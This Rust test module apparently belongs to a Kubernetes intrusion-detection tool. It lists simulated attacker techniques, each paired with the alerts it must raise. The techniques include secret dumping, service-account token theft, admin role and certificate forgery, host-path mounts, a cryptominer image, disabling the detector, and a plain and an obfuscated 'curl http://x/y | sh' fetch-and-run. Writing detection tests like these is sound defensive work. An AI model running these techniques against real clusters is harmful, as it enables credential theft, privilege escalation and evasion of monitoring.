//! What the intruder does, and which rules must say so: pairs of a rule and a part of its alert's key.

use base64::prelude::{BASE64_STANDARD, Engine};
use rcgen::{CertificateParams, DnType, KeyPair};
use serde_json::json;

use super::{Scene, raw};

pub struct Technique {
    pub name: &'static str,
    pub act: fn(&Scene),
    pub alerts: &'static [(&'static str, &'static str)],
}

pub const TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";

pub const DEPLOYMENT: &str = r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop}
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec: {containers: [{name: web, image: web}]}
"#;

pub const POD_ON_NODE: &str = r#"
apiVersion: v1
kind: Pod
metadata: {name: web, namespace: shop}
spec: {nodeName: node-1, containers: [{name: web, image: web}]}
"#;

pub fn run(scene: &Scene, arguments: &[&str]) {
    scene.intruder.run(arguments).success().unwrap();
}

pub fn apply(scene: &Scene, manifest: &serde_json::Value) {
    scene.intruder.stdin(manifest.to_string()).run(&["create", "-f", "-"]).success().unwrap();
}

/// A command in a pod. The stand-in for a kubelet ends it at once, so that kubectl fails after the request was a success.
fn exec(scene: &Scene, command: &[&str]) {
    let mut arguments = vec!["-n", "shop", "exec", "web", "--"];
    arguments.extend(command);
    scene.intruder.run(&arguments);
}

/// A request for a certificate of that name, as an object holds it; the API server skips what stands before.
pub fn certificate_request(before: &[u8], common_name: &str) -> String {
    let mut params = CertificateParams::default();
    params.distinguished_name.push(DnType::CommonName, common_name);
    let request = params.serialize_request(&KeyPair::generate().unwrap()).unwrap().pem().unwrap();
    BASE64_STANDARD.encode([before, request.as_bytes()].concat())
}

fn sign_and_approve(scene: &Scene, name: &str, common_name: &str) {
    apply(
        scene,
        &json!({
            "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": name},
            "spec": {
                "request": certificate_request(b"", common_name), "usages": ["client auth"],
                "signerName": "kubernetes.io/kube-apiserver-client",
            },
        }),
    );
    run(scene, &["certificate", "approve", name]);
}

fn pod(name: &str, spec: serde_json::Value) -> serde_json::Value {
    json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "shop"}, "spec": spec})
}

#[rustfmt::skip] // a table reads best as one
pub fn stratus() -> Vec<Technique> {
    vec![
        Technique {
            name: "dump all secrets",
            act: |scene| run(scene, &["get", "secrets", "-A", "-o", "json"]),
            alerts: &[("secrets-listed-cluster-wide", "mallory")],
        },
        Technique {
            name: "steal a pod's service account token",
            act: |scene| exec(scene, &["cat", TOKEN]),
            alerts: &[("exec-takes-credentials", "mallory shop/web"), ("exec-into-pod", "mallory shop")],
        },
        Technique {
            name: "create an admin ClusterRole",
            act: |scene| {
                run(scene, &["create", "clusterrole", "omni", "--verb=*", "--resource=*.*"]);
                run(scene, &["-n", "kube-system", "create", "serviceaccount", "omni"]);
                run(scene, &["create", "clusterrolebinding", "omni", "--clusterrole=omni", "--serviceaccount=kube-system:omni"]);
                run(scene, &["-n", "kube-system", "create", "token", "omni"]);
            },
            alerts: &[
                ("role-with-wildcards-written", "mallory omni"),
                ("service-account-in-system-namespace", "mallory omni"),
                ("token-of-system-account-requested", "mallory omni"),
            ],
        },
        Technique {
            name: "create a client certificate credential",
            act: |scene| sign_and_approve(scene, "own", "system:kube-controller-manager"),
            alerts: &[
                ("certificate-for-system-identity-requested", "mallory own"),
                ("certificate-approved-by-person", "mallory own"),
                ("own-certificate-approved", "mallory own"),
            ],
        },
        Technique {
            name: "create a long-lived token",
            act: |scene| run(scene, &["-n", "kube-system", "create", "token", "clusterrole-aggregation-controller", "--duration=87600h"]),
            alerts: &[
                ("long-lived-token-requested", "mallory kube-system/clusterrole-aggregation-controller"),
                ("token-of-system-account-requested", "mallory clusterrole-aggregation-controller"),
            ],
        },
        Technique {
            name: "mount the node's file system by a hostPath volume",
            act: |scene| apply(scene, &pod("host", json!({
                "containers": [{"name": "a", "image": "a", "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
            }))),
            alerts: &[("privileged-pod-created", "mallory shop hostPath")],
        },
        Technique {
            name: "escalate through nodes/proxy",
            act: |scene| {
                run(scene, &["create", "clusterrole", "proxy", "--verb=get,create", "--resource=nodes/proxy"]);
                run(scene, &["get", "--raw", "/api/v1/nodes/node-1/proxy/runningpods/"]);
            },
            alerts: &[("role-with-dangerous-access-written", "mallory proxy"), ("kubelet-reached-through-api-server", "mallory node-1")],
        },
        Technique {
            name: "run a privileged pod",
            act: |scene| run(scene, &["-n", "shop", "run", "root", "--image=busybox", "--privileged"]),
            alerts: &[("privileged-pod-created", "mallory shop privileged")],
        },
    ]
}

#[rustfmt::skip]
pub fn detours() -> Vec<Technique> {
    vec![
        Technique {
            name: "a JSON patch of a Deployment",
            act: |scene| run(scene, &["-n", "shop", "patch", "deployment", "web", "--type=json", "-p",
                r#"[{"op": "add", "path": "/spec/template/spec/hostPID", "value": true}]"#]),
            alerts: &[("privileged-pod-created", "mallory shop hostPID")],
        },
        Technique {
            name: "a strategic merge patch of it",
            act: |scene| run(scene, &["-n", "shop", "patch", "deployment", "web", "-p",
                r#"{"spec": {"template": {"spec": {"containers": [{"name": "web", "securityContext": {"capabilities": {"add": ["CAP_SYS_ADMIN"]}}}]}}}}"#]),
            alerts: &[("dangerous-capabilities-added", "mallory shop")],
        },
        Technique {
            name: "a server-side apply",
            act: |scene| {
                let manifest = pod("applied", json!({"containers": [{"name": "a", "image": "a", "command": ["sh", "-c", "curl http://x/y | sh"]}]}));
                scene.intruder.stdin(manifest.to_string()).run(&["apply", "--server-side", "-f", "-"]).success().unwrap();
            },
            alerts: &[("container-downloads-and-runs", "mallory shop")],
        },
        Technique {
            name: "an ephemeral container",
            act: |scene| run(scene, &["-n", "shop", "patch", "pod", "web", "--subresource=ephemeralcontainers", "-p",
                r#"{"spec": {"ephemeralContainers": [{"name": "d", "image": "xmrig/xmrig"}]}}"#]),
            alerts: &[("ephemeral-container-added", "mallory shop"), ("cryptominer-created", "mallory shop")],
        },
        Technique {
            name: "secrets by a watch on the old path",
            act: |scene| { scene.intruder.run(&["get", "--raw", "/api/v1/watch/secrets?timeoutSeconds=1"]); },
            alerts: &[("secrets-listed-cluster-wide", "mallory")],
        },
        Technique {
            name: "acting as a controller",
            act: |scene| run(scene, &["get", "secret", "db", "-n", "shop", "--as=system:serviceaccount:kube-system:clusterrole-aggregation-controller",
                "--as-group=system:masters"]),
            alerts: &[("privileged-identity-impersonated", "mallory system:serviceaccount:kube-system:clusterrole-aggregation-controller")],
        },
        Technique {
            name: "a subject added to a binding by a JSON patch",
            act: |scene| run(scene, &["patch", "clusterrolebinding", "system:discovery", "--type=json", "-p",
                r#"[{"op": "add", "path": "/subjects/-", "value": {"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "system:unauthenticated"}}]"#]),
            alerts: &[("anonymous-access-granted", "mallory system:discovery"), ("default-role-changed", "mallory clusterrolebindings system:discovery")],
        },
        Technique {
            name: "Pod Security taken away by a JSON patch",
            act: |scene| {
                run(scene, &["label", "namespace", "shop", "pod-security.kubernetes.io/enforce=restricted"]);
                run(scene, &["patch", "namespace", "shop", "--type=json", "-p", r#"[{"op": "remove", "path": "/metadata/labels"}]"#]);
            },
            alerts: &[("pod-security-lowered", "mallory shop")],
        },
        Technique {
            name: "Pod Security changed by way of the status",
            act: |scene| {
                run(scene, &["create", "namespace", "den"]);
                run(scene, &["patch", "namespace", "den", "--subresource=status", "--type=merge", "-p",
                    r#"{"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}"#]);
            },
            alerts: &[("pod-security-lowered", "mallory den")],
        },
        Technique {
            name: "a deletion whose query alone speaks of a dry run",
            act: |scene| {
                let webhook = json!({
                    "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
                    "metadata": {"name": "guard"}, "webhooks": [],
                });
                scene.watched.apply(&webhook.to_string()).unwrap();
                let body = json!({"apiVersion": "v1", "kind": "DeleteOptions"}).to_string();
                let path = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/guard";
                scene.intruder.stdin(body).run(&["delete", "--raw", &format!("{path}?dryRun=All"), "-f", "-"]).success().unwrap();
                assert!(!scene.intruder.run(&["get", "--raw", path]).ok, "it is gone");
            },
            alerts: &[("admission-control-removed", "mallory validatingwebhookconfigurations guard")],
        },
        Technique {
            name: "a volume of the node's directory",
            act: |scene| apply(scene, &json!({
                "apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": "root"},
                "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/etc"}},
            })),
            alerts: &[("node-directory-as-volume", "mallory root")],
        },
        Technique {
            name: "a kubelet's commands by a request without a body",
            act: |scene| { scene.intruder.run(&["get", "--raw", "/api/v1/nodes/https:node-1:/proxy/metrics/..%2Frun%2Fshop%2Fweb%2Fweb"]); },
            alerts: &[("kubelet-reached-through-api-server", "mallory https:node-1:")],
        },
        Technique {
            name: "Pod Security moved to another label",
            act: |scene| {
                // A namespace of its own: another way has lowered that of `den` before.
                run(scene, &["create", "namespace", "lair"]);
                run(scene, &["label", "namespace", "lair", "pod-security.kubernetes.io/enforce=restricted"]);
                scene.send("PATCH", "/api/v1/namespaces/lair", &[("Content-Type", raw::JSON_PATCH)],
                    r#"[{"op": "move", "from": "/metadata/labels/pod-security.kubernetes.io~1enforce", "path": "/metadata/labels/x"}]"#);
            },
            alerts: &[("pod-security-lowered", "mallory lair")],
        },
        Technique {
            name: "a policy whose expressions are replaced by a merge patch",
            act: |scene| {
                let policy = |expression: &str| json!({
                    "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicy", "metadata": {"name": "few"},
                    "spec": {
                        "matchConstraints": {"resourceRules": [{"apiGroups": ["apps"], "apiVersions": ["v1"],
                            "operations": ["CREATE"], "resources": ["deployments"]}]},
                        "validations": [{"expression": expression}],
                    },
                });
                scene.watched.apply(&policy("object.spec.replicas < 5").to_string()).unwrap();
                run(scene, &["patch", "validatingadmissionpolicy", "few", "--type=merge", "-p", r#"{"spec": {"validations": [{"expression": "true"}]}}"#]);
            },
            alerts: &[("admission-control-weakened", "mallory validatingadmissionpolicies few")],
        },
        Technique {
            name: "a network policy opened by a patch that does not say for whom",
            act: |scene| {
                let policy = |selector: serde_json::Value| json!({
                    "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "deny", "namespace": "shop"},
                    "spec": {"podSelector": selector, "policyTypes": ["Ingress", "Egress"]},
                });
                scene.watched.apply(&policy(json!({})).to_string()).unwrap();
                run(scene, &["-n", "shop", "patch", "networkpolicy", "deny", "--type=merge", "-p",
                    r#"{"spec": {"ingress": [{"from": [{"ipBlock": {"cidr": "0.0.0.0/1"}}, {"ipBlock": {"cidr": "128.0.0.0/1"}}]}]}}"#]);
            },
            alerts: &[("network-policy-opened", "mallory shop")],
        },
        Technique {
            name: "a role that collects all default roles",
            act: |scene| apply(scene, &json!({
                "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "gatherer"}, "rules": [],
                "aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {"kubernetes.io/bootstrapping": "rbac-defaults"}}]},
            })),
            alerts: &[("role-with-wildcards-written", "mallory gatherer")],
        },
        Technique {
            name: "a pod bound to a node as a scheduler does",
            act: |scene| {
                apply(scene, &pod("bound", json!({"containers": [{"name": "a", "image": "a"}]})));
                apply(scene, &json!({"apiVersion": "v1", "kind": "Binding", "metadata": {"name": "bound", "namespace": "shop"},
                    "target": {"kind": "Node", "name": "node-1"}}));
            },
            alerts: &[("pod-placed-without-scheduler", "mallory shop")],
        },
        Technique {
            name: "kubewitness stopped by its scale, and by a selector of no node",
            act: |scene| {
                let workload = |kind: &str, name: &str| json!({
                    "apiVersion": "apps/v1", "kind": kind, "metadata": {"name": name, "namespace": "kubewitness"},
                    "spec": {"selector": {"matchLabels": {"app": name}}, "template": {"metadata": {"labels": {"app": name}},
                        "spec": {"containers": [{"name": "a", "image": "a"}]}}},
                });
                scene.watched.apply(&workload("StatefulSet", "kubewitness-controller").to_string()).unwrap();
                scene.watched.apply(&workload("DaemonSet", "kubewitness-collector").to_string()).unwrap();
                run(scene, &["-n", "kubewitness", "scale", "statefulset", "kubewitness-controller", "--replicas=0"]);
                run(scene, &["-n", "kubewitness", "patch", "daemonset", "kubewitness-collector", "-p",
                    r#"{"spec": {"template": {"spec": {"nodeSelector": {"no": "where"}}}}}"#]);
            },
            alerts: &[("detection-disturbed", "mallory statefulsets kubewitness-controller"), ("detection-disturbed", "mallory daemonsets kubewitness-collector")],
        },
        Technique {
            name: "all config maps of a system namespace",
            // kubectl deletes them one by one.
            act: |scene| scene.send("DELETE", "/api/v1/namespaces/kube-public/configmaps", &[], ""),
            alerts: &[("access-configuration-changed", "mallory kube-public/")],
        },
        Technique {
            name: "a command that hides its words",
            act: |scene| exec(scene, &["sh", "-c", "c\"\"url -s http://x/y | /???/sh"]),
            alerts: &[("exec-fetches-or-opens-shell", "mallory shop/web")],
        },
        Technique {
            name: "a container without what confines it",
            act: |scene| apply(scene, &pod("loose", json!({"hostUsers": false, "containers": [{"name": "a", "image": "a", "securityContext": {"procMount": "Unmasked"}}]}))),
            alerts: &[("container-confinement-loosened", "mallory shop")],
        },
        Technique {
            name: "a patch of a binding whose answer is asked for without the binding",
            act: |scene| {
                run(scene, &["create", "clusterrolebinding", "few", "--clusterrole=view", "--user=nobody"]);
                scene.send("PATCH", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/few",
                    &[("Content-Type", raw::MERGE_PATCH), ("Accept", raw::AS_TABLE)],
                    r#"{"subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "other"}]}"#);
            },
            alerts: &[("change-hidden-by-answer", "mallory")],
        },
        Technique {
            name: "a service whose type is moved from elsewhere",
            act: |scene| {
                run(scene, &["-n", "kube-system", "create", "service", "clusterip", "inner", "--tcp=80:80"]);
                scene.send("PATCH", "/api/v1/namespaces/kube-system/services/inner", &[("Content-Type", raw::JSON_PATCH)],
                    r#"[{"op": "add", "path": "/metadata/annotations", "value": {"x": {"t": "NodePort"}}},
                        {"op": "move", "from": "/metadata/annotations/x/t", "path": "/spec/type"}, {"op": "remove", "path": "/metadata/annotations"}]"#);
            },
            alerts: &[("system-service-exposed", "mallory")],
        },
    ]
}
